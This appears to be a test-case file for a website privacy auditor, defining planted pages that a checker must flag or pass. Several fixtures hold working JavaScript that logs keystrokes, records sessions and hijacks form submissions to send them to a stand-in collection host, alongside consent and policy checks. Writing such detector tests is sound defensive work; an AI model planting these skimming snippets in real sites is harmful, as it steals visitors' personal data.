"""Criterion 2, planted."""

from __future__ import annotations

from portevoix.auditor.engine.types import Criterion
from tests.auditor.cases.site import FORM, SCRIPT, Case, bad, document, good, page_with, script
from tests.auditor.town import Reply

TO = "https://collecte.tiers.example"
OTHER = "third-party-other"
FIELD = '<form action="/recherche"><label>Recherche <input name="q" type="search"></label></form><label>Pseudo <input type="text" id="p"></label>'
POSTS = 'fetch("{to}/k",{{method:"POST",mode:"no-cors",body:{body}}})'


#: A search that answers while one types.
LIVE = (
    'document.querySelector("[name=q]").addEventListener("input",e=>fetch("%s/api?q="+e.target.value,{mode:"no-cors"}))'
)


def listens(body: str, how: str = "") -> str:
    code = how or POSTS.format(to=TO, body=body)
    return FIELD + script(
        f'document.getElementById("p").addEventListener("input",async e=>{{const v=e.target.value;if(v.length>10){{{code}}}}})'
    )


POLICY_LINK = '<a href="/confidentialite">Politique de confidentialité</a>'
CLOBBERS = "".join(
    f'<input type="hidden" name="{name}">' for name in ("method", "elements", "action", "innerText", "links")
)
PLAIN = """<form method="post" action="/contact"><label>Adresse e-mail <input type="email" name="email"></label>
<fieldset><legend>Ce pour quoi nous pouvons vous contacter</legend>
<label><input type="checkbox" name="nouvelles"> J’accepte de recevoir par e-mail les nouvelles.</label></fieldset>
<p><a href="/vos-donnees/">Vos données</a></p><button>Rejoindre</button></form>"""


HASH = (
    'const h=[...new Uint8Array(await crypto.subtle.digest("SHA-256",new TextEncoder().encode(v)))].map(b=>b.toString(16).padStart(2,"0")).join("");'
    + POSTS.format(to=TO, body="h")
)
SOCKET = 'window.w=window.w||new WebSocket("wss://collecte.tiers.example/ws");const go=()=>w.send(btoa("{\\"k\\":\\""+v+"\\"}"));w.readyState==1?go():w.addEventListener("open",go)'
MOUSE = """const seen=[];addEventListener("mousemove",e=>{seen.push({x:e.clientX,y:e.clientY});if(seen.length>=4)fetch("https://collecte.tiers.example/r",{method:"POST",mode:"no-cors",body:JSON.stringify(seen.splice(0))})})"""
SNAPSHOT = """addEventListener("load",()=>fetch("https://collecte.tiers.example/dom",{method:"POST",mode:"no-cors",body:JSON.stringify({html:document.documentElement.outerHTML})}))"""
#: What a page that sends by script shows: a form whose fields have no name, fields without a form, a form in a shadow.
NAMELESS = '<form><input type="email" placeholder="Votre e-mail"><button>S’inscrire</button></form>'
ORPHANS = '<div class="lettre"><input type="email" placeholder="Votre e-mail"><button>S’inscrire</button></div>'
SHADOWED = '<div id="lettre"></div>' + script(
    f'document.getElementById("lettre").attachShadow({{mode:"open"}}).innerHTML=`{NAMELESS}`'
)
UNTOLD = ("form-without-policy", "form-without-purpose", "form-without-basis")
TOLD = f"""<p>Avec votre accord, vos données servent pour vous répondre. {POLICY_LINK}</p>"""
#: A search for the phone, one for the desk, a trap for machines, then the field that is listened to.
FOURTH = (
    '<form action="/recherche"><input type="search" name="q" style="display:none"></form>'
    '<form action="/recherche"><input type="search" name="q"></form><input type="text" name="piege" style="display:none">'
    '<input type="text" name="piege2" disabled>'
    + FORM.replace('name="email"', 'name="email" id="m"')
    + script(
        f'document.getElementById("m").addEventListener("input",e=>{{if(e.target.value.length>10){POSTS.format(to=TO, body="e.target.value")}}})'
    )
)
OPINION = '<label>Pour qui voterez-vous ? <input name="vote"></label>'
SIDE = "<label>Vous êtes <select name=qui><option>Sympathisante<option>Adhérente<option>Autre</select></label>"
TOPICS = (
    "<label>Sujet <select name=sujet><option>Rencontrer la candidate<option>La presse<option>Voter</select></label>"
)
BOX = '<label><input type="checkbox" name="accord"> J’accepte que mon opinion politique soit enregistrée</label>'

SENT: tuple[Case, ...] = (
    bad("keystrokes", "keystrokes-sent", OTHER, home=listens("v")),
    bad(
        "keystrokes-in-address",
        "keystrokes-sent",
        OTHER,
        home=listens("", f'new Image().src="{TO}/k?t="+encodeURIComponent(v)'),
    ),
    bad("keystrokes-hashed", "keystrokes-sent", OTHER, home=listens("", HASH)),
    bad("keystrokes-base64-socket", "keystrokes-sent", OTHER, home=listens("", SOCKET)),
    bad("keystrokes-to-itself", "keystrokes-sent", home=listens("", POSTS.format(to="", body="v"))),
    bad(
        "keystrokes-one-by-one",
        "keystrokes-sent",
        OTHER,
        home=FIELD
        + script(
            f'addEventListener("keydown",e=>fetch("{TO}/k",{{method:"POST",mode:"no-cors",body:JSON.stringify({{t:Date.now(),k:e.key}})}}))'
        ),
    ),
    bad(
        "keystrokes-as-events",
        "keystrokes-sent",
        OTHER,
        home=FIELD
        + script(
            f'const s=[];addEventListener("keyup",e=>{{s.push({{type:3,code:e.code,x:12}});if(s.length==20)fetch("{TO}/e",{{method:"POST",mode:"no-cors",body:JSON.stringify(s)}})}})'
        ),
    ),
    bad("keystrokes-in-the-fourth-field", "keystrokes-sent", OTHER, home=FOURTH),
    bad("search-elsewhere", "keystrokes-sent", OTHER, home=FIELD + script(LIVE % TO)),
    good("live-search", pages={"/api": Reply("[]", "application/json")}, home=FIELD + script(LIVE % "")),
    good(
        "typing-stays",
        home=FIELD
        + script('document.getElementById("p").addEventListener("input",e=>{window.n=e.target.value.length})'),
    ),
    bad("mouse-recorded", "session-recorded", OTHER, home=script(MOUSE)),
    bad("page-recorded", "session-recorded", OTHER, home=script(SNAPSHOT)),
    good("mouse-moves", home=script('addEventListener("mousemove",e=>{document.body.dataset.x=e.clientX})')),
    bad(
        "identifier",
        "identifier-sent",
        "unclassified-identifier",
        OTHER,
        home=script(
            'const i=Math.random().toString(36).slice(2,12)+Math.random().toString(36).slice(2,10);document.cookie="visiteur="+i+";max-age=2592000";'
            f'new Image().src="{TO}/v?u="+i'
        ),
    ),
    bad(
        "webrtc",
        "webrtc-address",
        home=script(
            'new RTCPeerConnection({iceServers:[{urls:"stun:stun.l.google.com:19302"}]}).createDataChannel("x")'
        ),
    ),
    good("webrtc-own", home=script("new RTCPeerConnection()")),
)
THIRD: tuple[Case, ...] = (
    bad(
        "google-fonts",
        "third-party-fonts",
        "fonts-from-third-party",
        head='<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter">',
    ),
    bad("captcha", "third-party-captcha", head='<script src="https://www.google.com/recaptcha/api.js"></script>'),
    bad(
        "video",
        "third-party-video",
        home='<iframe src="https://www.youtube-nocookie.com/embed/x" title="Vidéo"></iframe>',
    ),
    bad("map", "third-party-map", home='<img src="https://tile.openstreetmap.org/1/1/1.png" alt="">'),
    bad("library", "third-party-cdn", head='<script src="https://cdn.jsdelivr.net/npm/x@1"></script>'),
    bad("social", "third-party-social", head='<script src="https://platform.twitter.com/widgets.js"></script>'),
    bad("payment", "third-party-payment", head='<script src="https://js.stripe.com/v3/"></script>'),
    bad("unlisted", OTHER, home=f'<img src="{TO}/x" alt="">'),
    good(
        "video-on-a-click",
        home="<button onclick=\"this.outerHTML='<iframe src=https://www.youtube-nocookie.com/embed/x></iframe>'\">Voir la vidéo</button>",
    ),
    good(
        "links-only",
        home='<a href="https://www.facebook.com/elan">Facebook</a> <a href="https://www.youtube.com/elan">YouTube</a>',
    ),
    good("banner-tool", head='<script src="https://sdk.privacy-center.org/loader.js"></script>'),
)
GA = "https://www.google-analytics.com"


def sends(code: str, form: str = FORM) -> dict[str, object]:
    """Return a page whose form a script takes over."""
    taken = f'document.querySelector("form").addEventListener("submit",async e=>{{e.preventDefault();const d=new FormData(e.target);{code}}})'
    return page_with(form + script(taken))


def clicked(code: str, told: str = TOLD) -> dict[str, object]:
    """Return a page whose fields stand in no form, and whose button sends them."""
    way = f'document.querySelector("button").onclick=()=>{{const v=document.querySelector("input").value;{code}}}'
    return page_with(f"<main>{ORPHANS.replace('</div>', f'{told}</div>')}</main>{script(way)}")


def kept_back() -> dict[str, object]:
    """Return a page whose worker could keep what a form sends, and send it another day."""
    claims = 'addEventListener("activate",e=>e.waitUntil(clients.claim()));addEventListener("fetch",()=>{})'
    ready = script('navigator.serviceWorker.register("/sw.js")')
    contact = Reply(document("Contact", f"<h1>Contact</h1>{FORM}"))
    pages = {"/sw.js": Reply(claims, SCRIPT), "/contact": contact}
    return {"home": f'<a href="/contact">Nous contacter</a>{ready}', "pages": pages}


ELSEWHERE = "form-to-third-party"
SCRIPTED: tuple[Case, ...] = (
    bad(
        "form-by-fetch",
        ELSEWHERE,
        **sends(f'fetch("{TO}/f",{{method:"POST",mode:"no-cors",body:new URLSearchParams(d)}})'),
    ),
    bad(
        "form-by-fetch-of-json",
        ELSEWHERE,
        **sends(
            f'fetch("{TO}/f",{{method:"POST",headers:{{"Content-Type":"application/json"}},body:JSON.stringify([...d])}})'
        ),
    ),
    bad(
        "form-by-xhr",
        ELSEWHERE,
        **sends(f'const x=new XMLHttpRequest();x.open("POST","{TO}/f");x.send(d.get("email"))'),
    ),
    # What is told by a beacon to somebody else, the lists call tracking.
    bad("form-by-beacon", "form-to-tracker", **sends(f'navigator.sendBeacon("{TO}/f",d.get("email"))')),
    bad("form-by-picture", ELSEWHERE, **sends(f'new Image().src="{TO}/f?m="+btoa(d.get("email"))')),
    bad(
        "form-by-socket",
        ELSEWHERE,
        OTHER,
        **sends("w.send(d.get('email'))", FORM + script('window.w=new WebSocket("wss://collecte.tiers.example/ws")')),
    ),
    bad(
        "form-after-an-answer",
        ELSEWHERE,
        **sends(
            f'const r=await fetch("/jeton");await r.json();fetch("{TO}/f",{{method:"POST",mode:"no-cors",body:new URLSearchParams(d)}})'
        ),
    ),
    bad(
        "form-sent-twice",
        "form-to-tracker",
        **sends(f'navigator.sendBeacon("{TO}/f",d.get("email"));e.target.submit()'),
    ),
    bad("form-turned-elsewhere", ELSEWHERE, **sends(f'e.target.action="{TO}/f";e.target.submit()')),
    bad("fields-by-fetch", ELSEWHERE, **clicked(f'fetch("{TO}/f",{{method:"POST",mode:"no-cors",body:v}})')),
    bad(
        "form-to-a-tracker",
        "form-to-tracker",
        **sends(f'fetch("{GA}/collect?v=1&uid="+d.get("email"),{{mode:"no-cors"}})'),
    ),
    bad("form-that-nothing-leaves", "form-not-followed", **sends("window.kept=d")),
    bad("fields-that-nothing-leaves", "form-not-followed", **page_with(ORPHANS.replace("</div>", f"{TOLD}</div>"))),
    bad(
        "form-sent-much-later",
        "form-not-followed",
        **sends(f'setTimeout(()=>fetch("{TO}/f",{{method:"POST",mode:"no-cors",body:new URLSearchParams(d)}}),1700)'),
    ),
    bad("form-behind-a-service-worker", "form-not-followed", **kept_back()),
    good("form-by-fetch-at-home", **sends('fetch("/contact",{method:"POST",body:d})')),
    good("form-by-fetch-then-native", **sends('await fetch("/jeton");e.target.submit()')),
)
#: Fields and links in the languages around, and fields that only what stands beside them names.
AROUND = {
    "spanish": (
        "Correo",
        "Nombre y apellidos",
        "Con su consentimiento, para responderle.",
        "Política de protección de datos",
    ),
    "italian": ("Posta", "Cognome", "Con il suo consenso, per rispondere.", "Informativa sui dati personali"),
    "german": ("Post", "Anschrift", "Mit Ihrer Einwilligung, um Ihnen zu antworten.", "Datenschutzerklärung"),
}


def asks(words: str, link: str, field: str) -> str:
    return f'<form method="post" action="/contact">{field}<p>{words} <a href="/infos">{link}</a></p><button>OK</button></form>'


LANGUAGES: tuple[Case, ...] = (
    *(
        case
        for name, (_mail, field, words, link) in AROUND.items()
        for case in (
            bad(f"form-in-{name}", *UNTOLD, **page_with(asks("", "", f"<label>{field} <input name=a></label>"))),
            good(f"form-in-{name}-told", **page_with(asks(words, link, f"<label>{field} <input name=a></label>"))),
        )
    ),
    bad("field-named-before", *UNTOLD, **page_with(asks("", "", "Votre nom : <input name=a>"))),
    bad(
        "field-named-in-a-table",
        *UNTOLD,
        **page_with(asks("", "", "<table><tr><td>Votre nom<td><input name=a></table>")),
    ),
    bad("field-named-by-its-kind", *UNTOLD, **page_with(asks("", "", '<input name=a autocomplete="given-name">'))),
    bad(
        "field-named-by-another",
        *UNTOLD,
        **page_with(asks("", "", "<h2 id=t>Nom</h2><hr><input name=a aria-labelledby=t>")),
    ),
    bad(
        "field-without-a-name",
        "form-not-read",
        **page_with("<form method=post action=/x><hr><input name=a><button>OK</button></form>"),
    ),
    good(
        "number-of-seats",
        **page_with(
            "<form method=post action=/x><label>Nombre de places <input name=nombre></label><button>OK</button></form>"
        ),
    ),
)
FORMS: tuple[Case, ...] = (
    bad("form-without-names", *UNTOLD, **page_with(NAMELESS)),
    bad("fields-without-a-form", *UNTOLD, **clicked('fetch("/lettre",{method:"POST",body:v})', told="")),
    bad("form-in-a-shadow", *UNTOLD, **page_with(SHADOWED)),
    bad("form-in-a-closed-shadow", *UNTOLD, **page_with(SHADOWED.replace('"open"', '"closed"'))),
    good("nameless-and-told", **page_with(NAMELESS.replace("</form>", f"{TOLD}</form>"))),
    good("orphans-and-told", **clicked('fetch("/lettre",{method:"POST",body:v})')),
    good(
        "address-to-copy",
        **page_with('<label>Votre adresse postale <input readonly value="a"></label><button>Copier</button>'),
    ),
    good("honest-form", **page_with(FORM)),
    good("form-in-plain-words", **page_with(PLAIN)),
    bad(
        "form-no-policy",
        "form-without-policy",
        **page_with(FORM.replace(POLICY_LINK, "")),
    ),
    bad(
        "form-no-purpose",
        "form-without-purpose",
        **page_with(FORM.replace(", vos données servent pour vous répondre.", "")),
    ),
    bad(
        "form-policy-in-the-foot",
        "form-without-policy",
        **page_with(
            f"<main>{FORM.replace(POLICY_LINK, '')}</main><footer><a href='/confidentialite'>Confidentialité</a></footer>"
        ),
    ),
    good(
        "form-policy-beside",
        **page_with(f"{FORM.replace(POLICY_LINK, '')}<p>{POLICY_LINK}</p><footer><a href='/'>Accueil</a></footer>"),
    ),
    bad(
        "form-names-its-own-parts",
        "form-without-policy",
        "form-by-get",
        **page_with(
            FORM.replace(POLICY_LINK, "")
            .replace('method="post"', 'method="get"')
            .replace("<button>", CLOBBERS + "<button>")
        ),
    ),
    bad("form-no-basis", "form-without-basis", **page_with(FORM.replace("Avec votre accord, vos", "Vos"))),
    bad(
        "form-ticked",
        "form-ticked-box",
        **page_with(
            FORM.replace("<button>", '<label><input type="checkbox" name="lettre" checked> Je m’abonne</label><button>')
        ),
    ),
    bad("form-get", "form-by-get", **page_with(FORM.replace('method="post"', 'method="get"'))),
    bad(
        "form-plain",
        "form-not-encrypted",
        headers=(
            ("Strict-Transport-Security", "max-age=31536000"),
            ("Content-Security-Policy", "frame-ancestors 'none'"),
            ("X-Content-Type-Options", "nosniff"),
            ("Referrer-Policy", "same-origin"),
        ),
        **page_with(FORM.replace('action="/contact"', 'action="http://www.form-plain.example/contact"')),
    ),
    bad(
        "form-elsewhere",
        "form-to-third-party",
        "certification-not-checked",
        "reached-other",
        watched=(Criterion.PERSONAL, Criterion.TRANSFERS, Criterion.SOVEREIGNTY),
        **page_with(FORM.replace('action="/contact"', 'action="https://elan.us1.list-manage.com/subscribe/post"')),
    ),
    bad("form-opinion", "form-opinion-without-consent", **page_with(FORM.replace("<button>", f"{OPINION}<button>"))),
    bad("form-list-of-sides", "form-opinion-without-consent", **page_with(FORM.replace("<button>", f"{SIDE}<button>"))),
    bad("form-joins", "form-shows-opinion", **page_with(f"<h2>Adhérer au parti</h2>{FORM}")),
    good("form-joins-agreed", **page_with(f"<h2>Adhérer au parti</h2>{FORM.replace('<button>', f'{BOX}<button>')}")),
    good("form-list-of-topics", **page_with(FORM.replace("<button>", f"{TOPICS}<button>"))),
    good("form-opinion-agreed", **page_with(FORM.replace("<button>", f"{OPINION}{BOX}<button>"))),
    good(
        "search-form", home='<form action="/recherche"><label>Recherche <input type="search" name="q"></label></form>'
    ),
)
CASES = (*SENT, *THIRD, *SCRIPTED, *LANGUAGES, *FORMS)
